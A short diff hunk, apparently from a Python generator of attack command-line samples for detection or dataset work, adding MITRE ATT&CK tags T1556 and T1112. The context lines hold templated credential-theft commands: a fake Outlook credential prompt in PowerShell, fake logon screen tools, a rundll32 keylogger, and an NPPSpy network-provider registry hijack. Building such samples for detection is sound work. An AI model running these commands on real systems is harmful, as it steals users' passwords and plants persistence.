@@ -120,6 +120,7 @@ powershell -c "$cred=$Host.UI.PromptForCredential('Outlook','Session expired',$e
 @tmp@FakeLogonScreen.exe
 @tmp@pickl3.exe & @tmp@SharpLocker.exe
 rundll32 @tmp@@word@.dll,StartKeylog
+@@ T1556 T1112
 reg add HKLM\SYSTEM\CurrentControlSet\Control\NetworkProvider\Order /v ProviderOrder /d "LanmanWorkstation,@word@" /f & copy NPPSPY.dll C:\Windows\System32\
 """, parents=PROMPT + STRANGE, users=(None,), most=2)
 
